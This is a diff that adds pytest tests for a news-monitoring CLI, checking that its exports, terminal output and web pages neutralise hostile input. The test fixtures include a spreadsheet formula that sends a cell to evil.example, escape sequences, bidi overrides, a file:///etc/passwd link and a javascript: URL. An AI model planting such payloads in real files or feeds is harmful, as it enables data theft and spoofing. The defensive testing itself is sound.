@@ -11,9 +11,12 @@ import csv
 import io
 import logging
 import os
+import sqlite3
 import subprocess
 import sys
+from collections.abc import Callable
 from pathlib import Path
+from xml.etree import ElementTree as ET
 
 import pytest
 
@@ -23,17 +26,20 @@ from storage.db import make_engine
 from storage.export import to_csv
 from storage.repository import Repository
 from storage.safe_text import inert_cell, strip_controls
+from tests.rasid.web_fixtures import Browser
 from tests.storage.conftest import hit_verdict, outcome
 
 MARKUP_TITLE = "روسيا [/bold] تعاون"  # "Russia [/bold] cooperation": once made `rasid hits` exit 1
 LINK_TITLE = "[link=file:///etc/passwd]اضغط هنا[/link] روسيا"  # "click here ... Russia"
 FORMULA_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"روسيا")'
 ESCAPE_TITLE = "روسيا \x1b]8;;file:///etc/passwd\x1b\\رابط\x1b]8;;\x1b\\ \x1b[2J\x1b[31mتعاون\x07"
+ATOM = "{http://www.w3.org/2005/Atom}"
+ROOT = Path(__file__).resolve().parents[2]
 SECRETS = ("DbPassw0rd", "QueryPassw0rd", "RedisPassw0rd", "RedisQueryPassw0rd", "SmtpPassw0rd")
 
 
 def run(
-    *args: str, env: dict[str, str] | None = None, stdin: str | None = None
+    *args: str, env: dict[str, str] | None = None, stdin: str | None = None, cwd: Path | None = None
 ) -> subprocess.CompletedProcess[str]:
     """``rasid ARGS`` as a user would run it, with colour forced and a wide terminal."""
     environment = {
@@ -44,9 +50,11 @@ def run(
         **(env or {}),
     }
     environment.pop("RASID_CONFIG", None)
+    # this tree's code, also when the child runs in another folder (``cwd``)
+    environment["PYTHONPATH"] = os.pathsep.join(filter(None, (str(ROOT), os.environ.get("PYTHONPATH"))))
     return subprocess.run(
         [sys.executable, "-m", "rasid.cli", *args],
-        capture_output=True, text=True, timeout=120, env=environment, input=stdin,
+        capture_output=True, text=True, timeout=120, env=environment, input=stdin, cwd=cwd,
     )  # fmt: skip
 
 
@@ -147,6 +155,211 @@ def test_export_never_writes_through_a_symlink(hostile_db: str, tmp_path: Path, 
     assert done.stderr.strip() == f"error: {link}: is a symbolic link; refusing to write through it"
     assert victim.read_text(encoding="utf-8") == "precious\n"
     assert link.is_symlink()
+
+
+@pytest.mark.parametrize(
+    ("name", "reason"),
+    [
+        (
+            "/proc/out.csv",
+            "cannot write it: No such file or directory",
+        ),  # /proc takes no files, even from root
+        ("/dev/full", "exists and is not a regular file"),  # a device is never replaced by an export
+        ("{tmp}", "exists and is not a regular file"),  # a folder
+    ],
+)
+def test_export_to_an_unwritable_place_is_one_line_and_exit_2(
+    hostile_db: str, tmp_path: Path, name: str, reason: str
+) -> None:
+    target = name.format(tmp=tmp_path)
+    done = run("export", target, "--format", "csv", "--force", "--db", hostile_db)
+    assert (done.returncode, done.stderr.strip()) == (2, f"error: {target}: {reason}")
+
+
+def _limited_file_size() -> None:
+    """In the child: a file may grow to 40 kB (SQLite's WAL index is 32), a bigger write fails with EFBIG."""
+    import resource
+    import signal
+
+    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+    resource.setrlimit(resource.RLIMIT_FSIZE, (40_000, 40_000))
+
+
+def test_an_export_that_fails_midway_is_one_line_and_leaves_nothing(hostile_db: str, tmp_path: Path) -> None:
+    big = "روسيا " * 5000  # "Russia": one title of 60 kB, more than the child may write
+    repo = Repository(make_engine(hostile_db))
+    repo.store([outcome("https://wam.ae/ar/big", big, source="wam", title=big)], repo.start_run(["wam"]))
+    out = tmp_path / "out"
+    out.mkdir()
+    done = subprocess.run(
+        [sys.executable, "-m", "rasid.cli", "export", str(out / "hits.csv"), "--db", hostile_db],
+        capture_output=True, text=True, timeout=120, preexec_fn=_limited_file_size,
+        env={**os.environ, "PYTHONDONTWRITEBYTECODE": "1"},
+    )  # fmt: skip
+    assert (done.returncode, done.stderr.strip()) == (
+        2,
+        f"error: {out / 'hits.csv'}: cannot write it: File too large",
+    )
+    assert list(out.iterdir()) == []
+
+
+def test_the_wrote_line_shows_a_file_name_without_its_escape_sequences(
+    hostile_db: str, tmp_path: Path
+) -> None:
+    name = "b\x1b]0;PWN\x07\x1b[2J.csv"  # would retitle the terminal window and clear the screen
+    done = run("export", name, "--db", hostile_db, cwd=tmp_path)
+    assert done.returncode == 0, done.stderr[-2000:]
+    assert (tmp_path / name).is_file()
+    assert "\x1b" not in done.stdout and "\x07" not in done.stdout
+    assert done.stdout == "wrote 4 hits to b.csv (csv)\n"
+
+
+# ------------------------------------------------------------------------------------ feedback export
+
+
+@pytest.fixture
+def judged_db(hostile_db: str) -> str:
+    """The hostile hits, one of them judged right by an analyst."""
+    repo = Repository(make_engine(hostile_db))
+    repo.add_judgement("ليلى", "right", article_id=repo.hits()[0].article_id)
+    return hostile_db
+
+
+def test_feedback_export_refuses_to_overwrite_without_force(judged_db: str, tmp_path: Path) -> None:
+    target = tmp_path / "judged.jsonl"
+    target.write_text("keep me\n", encoding="utf-8")
+    done = run("feedback", "export", str(target), "--db", judged_db)
+    assert (done.returncode, done.stderr.strip()) == (
+        2,
+        f"error: {target}: already exists; pass --force to overwrite it",
+    )
+    assert target.read_text(encoding="utf-8") == "keep me\n"
+    forced = run("feedback", "export", str(target), "--force", "--db", judged_db)
+    assert forced.returncode == 0, forced.stderr[-2000:]
+    assert '"label": true' in target.read_text(encoding="utf-8")
+
+
+def test_feedback_export_never_writes_through_a_symlink(judged_db: str, tmp_path: Path) -> None:
+    victim, link = tmp_path / "victim.txt", tmp_path / "judged.jsonl"
+    victim.write_text("precious\n", encoding="utf-8")
+    link.symlink_to(victim)
+    done = run("feedback", "export", str(link), "--force", "--db", judged_db)
+    assert (done.returncode, done.stderr.strip()) == (
+        2,
+        f"error: {link}: is a symbolic link; refusing to write through it",
+    )
+    assert victim.read_text(encoding="utf-8") == "precious\n"
+
+
+def test_feedback_export_makes_no_missing_folder(judged_db: str, tmp_path: Path) -> None:
+    target = tmp_path / "typo" / "judged.jsonl"
+    done = run("feedback", "export", str(target), "--db", judged_db)
+    assert (done.returncode, done.stderr.strip()) == (
+        2,
+        f"error: {target}: no folder {target.parent} to write it in",
+    )
+    assert not target.parent.exists()
+
+
+@pytest.mark.parametrize(
+    ("name", "reason"),
+    [
+        ("/proc/judged.jsonl", "cannot write it: No such file or directory"),
+        ("/dev/full", "exists and is not a regular file"),
+        ("{tmp}", "exists and is not a regular file"),
+    ],
+)
+def test_feedback_export_to_an_unwritable_place_is_one_line_and_exit_2(
+    judged_db: str, tmp_path: Path, name: str, reason: str
+) -> None:
+    target = name.format(tmp=tmp_path)
+    done = run("feedback", "export", target, "--force", "--db", judged_db)
+    assert (done.returncode, done.stderr.strip()) == (2, f"error: {target}: {reason}")
+
+
+def test_feedback_export_dash_writes_to_standard_output(judged_db: str, tmp_path: Path) -> None:
+    here = tmp_path / "here"
+    here.mkdir()
+    done = run("feedback", "export", "-", "--db", judged_db, cwd=here)
+    assert done.returncode == 0, done.stderr[-2000:]
+    assert '"label": true' in done.stdout
+    assert list(here.iterdir()) == []  # no file named "-"
+
+
+# ------------------------------------------------------------------------------------ bidi overrides and links
+
+RLO_TITLE = "روسيا \u202eتعاون\u202c \u2066مصر\u2069"  # a right-to-left override and an isolate in a title
+HOSTILE_URL = "javascript:alert(1)"
+BIDI = ("\u202e", "\u202c", "\u2066", "\u2069")
+
+
+@pytest.fixture
+def bidi_db(hostile_db: str) -> str:
+    """The hostile hits plus one whose title carries bidi controls and whose stored URL is ``javascript:``."""
+    repo = Repository(make_engine(hostile_db))
+    text = " ".join(f"خبر9كلمة{w}" for w in range(60))  # "news9word": its own story
+    repo.store(
+        [outcome("https://wam.ae/ar/rlo", text, source="wam", title=RLO_TITLE)], repo.start_run(["wam"])
+    )
+    with sqlite3.connect(hostile_db.removeprefix("sqlite:///")) as db:
+        db.execute(
+            "UPDATE articles SET url = ?, canonical_url = ? WHERE url = ?",
+            (HOSTILE_URL, HOSTILE_URL, "https://wam.ae/ar/rlo"),
+        )
+    return hostile_db
+
+
+@pytest.mark.parametrize("args", [("hits",), ("stories",), ("hits", "--format", "csv")])
+def test_bidi_controls_in_a_stored_title_never_reach_the_terminal(
+    bidi_db: str, args: tuple[str, ...]
+) -> None:
+    done = run(*args, "--db", bidi_db)
+    assert done.returncode == 0, done.stderr[-2000:]
+    assert "روسيا تعاون مصر" in done.stdout
+    assert not [c for c in BIDI if c in done.stdout]
+
+
+@pytest.mark.parametrize("suffix", ["csv", "atom"])
+def test_exported_files_hold_no_bidi_controls(bidi_db: str, tmp_path: Path, suffix: str) -> None:
+    target = tmp_path / f"hits.{suffix}"
+    done = run("export", str(target), "--db", bidi_db)
+    assert done.returncode == 0, done.stderr[-2000:]
+    written = target.read_text(encoding="utf-8")
+    assert "روسيا تعاون مصر" in written
+    assert not [c for c in BIDI if c in written]
+
+
+@pytest.mark.parametrize("what", ["hits", "stories"])
+def test_the_atom_export_never_links_a_javascript_url(bidi_db: str, tmp_path: Path, what: str) -> None:
+    target = tmp_path / "feed.atom"
+    done = run("export", str(target), "--what", what, "--db", bidi_db)
+    assert done.returncode == 0, done.stderr[-2000:]
+    feed = target.read_text(encoding="utf-8")
+    assert "javascript:" not in feed
+    entry = next(
+        e for e in ET.fromstring(feed).iter(f"{ATOM}entry") if e.findtext(f"{ATOM}title") == "روسيا تعاون مصر"
+    )
+    assert entry.findall(f"{ATOM}link") == []  # the hostile hit keeps its entry, without a link
+    assert len(ET.fromstring(feed).findall(f"{ATOM}entry/{ATOM}link")) == 4  # the other hits keep theirs
+
+
+def test_web_pages_show_a_title_without_its_bidi_controls_and_no_javascript_link(
+    bidi_db: str, serve: Callable[..., Browser]
+) -> None:
+    site = serve(bidi_db)
+    story_id = next(s.story_id for s in site.repository.stories() if "\u202e" in s.title)
+    for path in ("/", f"/stories/{story_id}"):
+        page = site.get(path)
+        assert page.status_code == 200, path
+        assert "روسيا تعاون مصر" in page.text, path
+        assert not [c for c in BIDI if c in page.text], path
+        assert "javascript:" not in page.text, path
+
+
+def test_the_wrote_line_drops_bidi_controls_from_the_file_name(hostile_db: str, tmp_path: Path) -> None:
+    done = run("export", "\u202ecsv.exe.csv", "--db", hostile_db, cwd=tmp_path)
+    assert done.returncode == 0, done.stderr[-2000:]
+    assert done.stdout == "wrote 4 hits to csv.exe.csv (csv)\n"
 
 
 # ------------------------------------------------------------------------------------ secrets
